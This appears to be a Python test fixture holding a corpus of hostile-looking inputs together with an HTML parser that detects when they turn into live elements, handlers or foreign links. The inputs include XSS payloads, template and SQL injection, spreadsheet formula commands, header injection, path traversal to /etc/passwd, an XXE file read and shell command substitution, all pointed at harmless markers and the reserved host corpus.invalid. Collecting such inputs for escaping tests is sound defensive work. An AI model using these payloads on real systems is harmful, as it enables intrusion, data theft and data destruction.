"""What hostile people type, and what merely looks hostile: text all the same, wherever it goes.

What would run in a browser leaves a trace: `window.corpusHit`, an element `corpus-hit`, or a
request to `corpus.invalid`. What a template would compute is 7,006,652 afterwards.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

COMPUTED = "7006652"  # 1234 * 5678
FOREIGN = "corpus.invalid"
RAN = "corpusHit"
MADE = "corpus-hit"

CORPUS: dict[str, str] = {
    # HTML
    "bold": "<b>bold</b>",
    "element": "<corpus-hit>x</corpus-hit>",
    "script": "<script>window.corpusHit=1</script>",
    "script closed": "</script><script>window.corpusHit=1</script>",
    "script split": "<scr<script>ipt>window.corpusHit=1</scr</script>ipt>",
    "script foreign": "<script src=//corpus.invalid/a.js></script>",
    "image": "<img src=x onerror=window.corpusHit=1>",
    "image unclosed": "<img src=//corpus.invalid/i onerror=window.corpusHit=1 ",
    "svg": "<svg/onload=window.corpusHit=1>",
    "svg animated": "<svg><animate onbegin=window.corpusHit=1 attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=corpusHit=1/>#x'/></svg>",
    "math": "<math><mi xlink:href=javascript:window.corpusHit=1>x</mi></math>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=window.corpusHit=1>'>",
    "style closed": "</style><img src=x onerror=window.corpusHit=1>",
    "textarea closed": "</textarea><img src=x onerror=window.corpusHit=1>",
    "title closed": "</title><corpus-hit>",
    "comment": "<!--<script>window.corpusHit=1//-->",
    "frame": "<iframe srcdoc='<script>parent.corpusHit=1</script>'></iframe>",
    "object": "<object data=//corpus.invalid/o><embed src=//corpus.invalid/e>",
    "meta": "<meta http-equiv=refresh content='0;url=//corpus.invalid'>",
    "base": "<base href=//corpus.invalid/>",
    "form": "<form action=//corpus.invalid><button autofocus onfocus=corpusHit=1>x</form>",
    "link": "<a href=javascript:window.corpusHit=1>x</a>",
    "clobber": "<img name=getElementById><form id=body>",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "entity open": "&#x3c;img src=x onerror=corpusHit=1&#x3e;",
    # attributes and scripts
    "double quote": '" autofocus onfocus="window.corpusHit=1',
    "single quote": "' onmouseover='window.corpusHit=1' x='",
    "backtick": "`onmouseover=window.corpusHit=1 x=`",
    "javascript": "javascript:window.corpusHit=1",
    "javascript hidden": "java\tscript:window.corpusHit=1",
    "javascript entity": "javascript&colon;window.corpusHit=1",
    "data": "data:text/html,<script>window.corpusHit=1</script>",
    "in a script": "';window.corpusHit=1;//",
    "in JSON": '"}];window.corpusHit=1;//',
    "line separator": "a\u2028window.corpusHit=1//\u2029b",
    "prototype": "__proto__",
    "constructor": "constructor.constructor('window.corpusHit=1')()",
    # templates
    "jinja": "{{ 1234 * 5678 }}",
    "jinja class": "{{ ''.__class__.__mro__ }}{% raw %}",
    "literal": "${1234*5678}",
    "ruby": "#{1234*5678}",
    "erb": "<%= 1234*5678 %>",
    "percent": "%(password)s %s %n %d",
    "format": "{0.__class__} {} {actor}",
    "dollar": "$HOME $1 $& $$",
    "react": '{"dangerouslySetInnerHTML":{"__html":"<corpus-hit>"}}',
    "react props": '{"$$typeof":"Symbol(react.element)","type":"corpus-hit"}',
    "reflex": "rx.call_script('window.corpusHit=1')",
    "reflex event": '{"name":"state.session_state.report","payload":{}}',
    "expression": "{window.corpusHit=1}",
    # Markdown and CSS
    "markdown link": "[x](javascript:window.corpusHit=1)",
    "markdown image": "![x](//corpus.invalid/i)",
    "markdown block": "# x\n```js\ncorpusHit=1\n```",
    "css": "red;background:url(//corpus.invalid/c)",
    "css closed": "}*{display:none}@import '//corpus.invalid/c';",
    # databases
    "sql": "'; DROP TABLE entry; --",
    "sql or": "' OR '1'='1' /*",
    "sql union": "x') UNION SELECT password_hash FROM user--",
    "like": "%_%\\%",
    "glob": "*[a-z]?",
    "search": 'a" OR b NEAR(c) AND NOT * ^d:e',
    "parameter": ":name ? $1 %(x)s",
    # spreadsheets
    "formula": '=HYPERLINK("//corpus.invalid","x")',
    "formula plus": "+1234*5678",
    "formula minus": "-1234*5678",
    "formula at": "@SUM(1234*5678)",
    "formula command": "=cmd|' /C calc'!A0",
    "formula marked": "'=1234*5678",
    "cells": 'a,b;c\td"e"',
    # headers, lines, logs
    "header": "x\r\nBcc: victim@corpus.invalid\r\n\r\n<corpus-hit>",
    "response": "x\r\nSet-Cookie: corpus=1\r\nLocation: //corpus.invalid",
    "encoded word": "=?utf-8?q?=0ABcc:_victim=40corpus.invalid?=",
    "log": "x\n2026-11-23T12:00:00Z [info] signed in user=admin",
    "address": "https://corpus.invalid/phish",
    "address alone": "x\n\nhttps://corpus.invalid/phish\n\ny",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "boundary": "--===============corpus==\nContent-Type: text/html\n\n<corpus-hit>",
    # characters
    "zero": "a\0b",
    "controls": "a\x01\x08\x0b\x0c\x7f\x85b",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069",
    "invisible": "a\u200b\u200c\u200d\u2060\ufeff\u00adb",
    "combining": "Z" + "\u0335\u0353\u0321\u030d" * 10,
    "wide": "W" * 49,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪",
    "surrogate": "a\ud800b",
    "private": "\ue000\U000f0000\uffff",
    "confusable": "аdmin раypal ａｄｍｉｎ ﬁ ſ ß İ",
    "normal forms": "é e\u0301 Å \u212b",
    "full width": "＜script＞corpusHit=1＜/script＞",
    "right to left": "مرحبا שלום 12",
    # files and shells
    "path": "../../../../etc/passwd",
    "path windows": "..\\..\\windows\\win.ini",
    "path encoded": "%2e%2e%2f%00.png",
    "shell": "`id`; $(id) | id && id > /tmp/corpus",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "cdata": "]]><corpus-hit/><![CDATA[",
    "null word": "null",
    "number": "1e309",
    # charts
    "plotly link": '<a href="//corpus.invalid">x</a>',
    "plotly style": '<span style="color:red" onclick="corpusHit=1">x</span><br>y',
    "plotly template": "%{x} %{customdata[0]}<extra></extra>",
    "colour": "@ink",
    "latex": "$\\href{javascript:corpusHit=1}{x}$",
}

NEVER = re.compile(r"[\x00\ud800-\udfff]")
"""What no database keeps."""


def words(text: str) -> str:
    """Return a text as a name is kept: one line, single spaces, nothing that cannot be stored."""
    return " ".join(NEVER.sub("", text).split())


class Read(HTMLParser):
    """What a browser would make of HTML: elements, attributes, text; scripts apart."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = self.scripts = self._open = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._open = tag

    def handle_endtag(self, tag: str) -> None:
        """Note that it ends."""
        self._open = "" if tag == self._open else self._open

    def handle_data(self, data: str) -> None:
        """Note what stands in it."""
        if self._open == "script":
            self.scripts += data
        elif self._open != "style":
            self.text += data

    def hits(self, allowed: frozenset[str]) -> list[str]:
        """Return what texts have become elements or handlers of.

        Args:
            allowed: the elements that the document has by itself.
        """
        found = [tag for tag in self.tags if tag not in allowed]
        found += [name for name, _ in self.attributes if name.startswith("on")]
        addresses = [value for name, value in self.attributes if name in ("href", "src", "action")]
        return found + [one for one in addresses if FOREIGN in one or "script:" in one]
